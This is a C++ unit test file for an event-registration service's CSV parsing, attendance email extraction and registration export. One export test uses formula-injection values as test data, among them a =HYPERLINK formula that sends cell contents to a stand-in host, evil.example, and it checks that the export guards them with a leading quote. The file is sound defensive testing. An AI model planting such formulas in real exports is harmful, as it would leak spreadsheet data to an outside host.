#include "services/registration/rules/csv.h"

#include <string>
#include <vector>

#include "absl/status/status.h"
#include "absl/strings/str_cat.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace events::registration {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using Rows = std::vector<std::vector<std::string>>;

std::string Message(const absl::Status& s) { return std::string(s.message()); }

TEST(ParseCsvTest, QuotedFieldsEscapesEmbeddedCommasAndNewlines) {
  auto rows = ParseCsv(
      "name,email,notes\n"
      "\"Example, Ann\",ann@example.org,\"She said \"\"hi\"\"\"\n"
      "Bo,bo@example.org,\"line one\r\nline two\"\n"
      "\"\",,\"x\"y\n");
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(*rows, (Rows{{"name", "email", "notes"},
                         {"Example, Ann", "ann@example.org", "She said \"hi\""},
                         {"Bo", "bo@example.org", "line one\r\nline two"},
                         {"", "", "xy"}}));
}

TEST(ParseCsvTest, BomLineEndingsAndBlankLines) {
  auto rows = ParseCsv(
      "\xEF\xBB\xBF"
      "email\r\n\r\na@x.org\r\n  \n,,\rb@x.org\rc@x.org,");
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(*rows, (Rows{{"email"}, {"a@x.org"}, {"b@x.org"}, {"c@x.org", ""}}));
  auto empty = ParseCsv("");
  ASSERT_TRUE(empty.ok());
  EXPECT_TRUE(empty->empty());
}

TEST(ParseCsvTest, UnclosedQuoteNamesTheLineWhereItOpened) {
  auto rows = ParseCsv("email,name\na@x.org,\"Ann\nb@x.org,Bo\n");
  EXPECT_EQ(rows.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(Message(rows.status()), HasSubstr("csv: line 2: a quoted field is never closed"));
  // Line numbers count the line breaks inside earlier quoted fields.
  rows = ParseCsv("email,notes\r\na@x.org,\"one\r\ntwo\"\r\nb@x.org,\"open");
  EXPECT_THAT(Message(rows.status()), HasSubstr("line 4:"));
}

TEST(EmailsFromAttendanceCsvTest, FindsTheEmailColumnByAnyOfItsNames) {
  for (const std::string header : {"Email", " E-Mail ", "EMAIL ADDRESS", "e-mail address"}) {
    auto emails =
        EmailsFromAttendanceCsv(absl::StrCat("Name,\"", header, "\",Duration\nAnn,ann@x.org,60\n"));
    ASSERT_TRUE(emails.ok()) << header << ": " << emails.status();
    EXPECT_THAT(*emails, ElementsAre("ann@x.org")) << header;
  }
}

TEST(EmailsFromAttendanceCsvTest, MissingColumnOrEmptyFileIsRefused) {
  const std::string expected = "csv: no column named email; the first row must be the header";
  for (const std::string csv :
       {"Name,Mail\nAnn,ann@x.org\n", "ann@x.org\nbo@x.org\n", "", "\xEF\xBB\xBF\r\n\r\n"}) {
    auto emails = EmailsFromAttendanceCsv(csv);
    EXPECT_EQ(emails.status().code(), absl::StatusCode::kInvalidArgument);
    EXPECT_EQ(Message(emails.status()), expected);
  }
}

TEST(EmailsFromAttendanceCsvTest, NormalisesSkipsEmptiesAndDropsRepeatsInFirstSeenOrder) {
  auto emails = EmailsFromAttendanceCsv(
      "\xEF\xBB\xBF"
      "Join time,Email,Name\r\n"
      "10:00,  Bo@X.org ,Bo\r\n"
      "10:01,ann@x.org,Ann\r\n"
      "\r\n"
      "10:02,,No e-mail\r\n"
      "10:03,BO@x.org,Bo again\r\n"
      "10:04\r\n"
      "10:05,\"cy@x.org\",\"Cy, Jr\"\r\n");
  ASSERT_TRUE(emails.ok()) << emails.status();
  EXPECT_THAT(*emails, ElementsAre("bo@x.org", "ann@x.org", "cy@x.org"));
}

TEST(EmailsFromAttendanceCsvTest, UnclosedQuoteIsRefused) {
  auto emails = EmailsFromAttendanceCsv("email\na@x.org\n\"b@x.org\n");
  EXPECT_EQ(emails.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(Message(emails.status()), HasSubstr("line 3"));
}

TEST(EmailsFromAttendanceCsvTest, SizeAndRowLimits) {
  std::string csv = "email\n";
  for (int i = 0; i < kMaxAttendanceCsvRows; ++i) absl::StrAppend(&csv, "p", i, "@x.org\n");
  auto emails = EmailsFromAttendanceCsv(csv);
  ASSERT_TRUE(emails.ok()) << emails.status();
  EXPECT_EQ(emails->size(), static_cast<size_t>(kMaxAttendanceCsvRows));

  absl::StrAppend(&csv, "one-more@x.org\n");
  emails = EmailsFromAttendanceCsv(csv);
  EXPECT_EQ(emails.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(Message(emails.status()), HasSubstr("at most 5000 rows"));

  std::string big = "email,notes\na@x.org,";
  big.append(kMaxAttendanceCsvBytes - big.size(), 'n');
  EXPECT_TRUE(EmailsFromAttendanceCsv(big).ok());
  big.push_back('n');
  emails = EmailsFromAttendanceCsv(big);
  EXPECT_EQ(emails.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(Message(emails.status()), HasSubstr("at most 240 KiB"));
}

events::v1::RegistrationSettings ExportSettings() {
  events::v1::RegistrationSettings s;
  s.set_event_id("ev_1");
  auto* q = s.add_questions();
  q->set_id("access_needs");
  q->set_type(events::v1::QUESTION_TYPE_TEXT);
  q = s.add_questions();
  q->set_id("topics");
  q->set_type(events::v1::QUESTION_TYPE_MULTIPLE_CHOICE);
  q = s.add_questions();
  q->set_id("first_time");
  q->set_type(events::v1::QUESTION_TYPE_YES_NO);
  return s;
}

TEST(RegistrationsCsvTest, HeaderWordsAndFormats) {
  events::v1::Registration r;
  r.set_id("rg_1");
  r.set_status(events::v1::REGISTRATION_STATUS_WAITLISTED);
  r.set_name("Ann Example");
  r.set_email("ann@example.org");
  r.set_participation(events::v1::PARTICIPATION_LIVED_EXPERIENCE);
  r.set_pool("lived_experience");
  r.set_companion(true);
  r.set_waitlist_position(3);
  r.set_created_unix_ms(1773136800123);  // 2026-03-10T10:00:00.123Z
  auto* a = r.add_answers();
  a->set_question_id("topics");
  a->add_choices("Housing");
  a->add_choices("Work");
  a = r.add_answers();
  a->set_question_id("first_time");
  a->set_yes(true);
  a = r.add_answers();
  a->set_question_id("deleted_question");
  a->set_text("not exported");

  events::v1::Registration other;
  other.set_id("rg_2");
  other.set_status(events::v1::REGISTRATION_STATUS_PENDING_APPROVAL);
  other.set_marketing_opt_in(true);
  other.set_attended(true);

  EXPECT_EQ(RegistrationsCsv({r, other}, ExportSettings()),
            "registration_id,status,name,email,organisation,participation,pool,companion,"
            "marketing_opt_in,attended,waitlist_position,registered_at,access_needs,topics,"
            "first_time\r\n"
            "rg_1,waitlisted,Ann Example,ann@example.org,,lived_experience,lived_experience,yes,"
            "no,no,3,2026-03-10T10:00:00Z,,Housing; Work,yes\r\n"
            "rg_2,pending_approval,,,,,general,no,yes,yes,,,,,\r\n");

  std::vector<std::string> words;
  for (auto status :
       {events::v1::REGISTRATION_STATUS_CONFIRMED, events::v1::REGISTRATION_STATUS_CANCELLED,
        events::v1::REGISTRATION_STATUS_REJECTED}) {
    events::v1::Registration x;
    x.set_status(status);
    auto rows = ParseCsv(RegistrationsCsv({x}, events::v1::RegistrationSettings()));
    ASSERT_TRUE(rows.ok());
    words.push_back((*rows)[1][1]);
  }
  EXPECT_THAT(words, ElementsAre("confirmed", "cancelled", "rejected"));
}

TEST(RegistrationsCsvTest, QuotesGuardsFormulasAndParsesBack) {
  events::v1::Registration r;
  r.set_id("rg_1");
  r.set_status(events::v1::REGISTRATION_STATUS_CONFIRMED);
  r.set_name("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
  r.set_email("@sum@x.org");
  r.set_organisation("+44 Group, \"Ltd\"");
  r.set_pool("general");
  auto* a = r.add_answers();
  a->set_question_id("access_needs");
  a->set_text("-1 step\nthen\ttabs, and \"quotes\"");
  const std::string csv = RegistrationsCsv({r}, ExportSettings());
  EXPECT_THAT(csv, HasSubstr(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","));
  EXPECT_THAT(csv, HasSubstr(",'@sum@x.org,\"'+44 Group, \"\"Ltd\"\"\","));

  auto rows = ParseCsv(csv);
  ASSERT_TRUE(rows.ok()) << rows.status();
  ASSERT_EQ(rows->size(), 2u);
  const auto& row = (*rows)[1];
  ASSERT_EQ(row.size(), 15u);
  EXPECT_EQ(row[2], "'" + r.name());
  EXPECT_EQ(row[3], "'@sum@x.org");
  EXPECT_EQ(row[4], "'+44 Group, \"Ltd\"");
  EXPECT_EQ(row[12], "'-1 step\nthen\ttabs, and \"quotes\"");

  // After leading spaces or invisible characters a spreadsheet still reads a formula.
  for (const std::string& formula :
       {std::string(" =1+1"), std::string("  @SUM(A1)"), std::string("\u00a0+1"),
        std::string("\u200b-1"), std::string("\n=1")}) {
    r.set_name(formula);
    rows = ParseCsv(RegistrationsCsv({r}, ExportSettings()));
    ASSERT_TRUE(rows.ok()) << rows.status();
    EXPECT_EQ((*rows)[1][2], "'" + formula);
  }

  // Tab and CR at the start are guarded too; a formula character later on is harmless.
  r.set_name("\tTab");
  r.set_organisation("\r=1");
  r.set_email("a=b@x.org");
  rows = ParseCsv(RegistrationsCsv({r}, ExportSettings()));
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ((*rows)[1][2], "'\tTab");
  EXPECT_EQ((*rows)[1][3], "a=b@x.org");
  EXPECT_EQ((*rows)[1][4], "'\r=1");
}

}  // namespace
}  // namespace events::registration
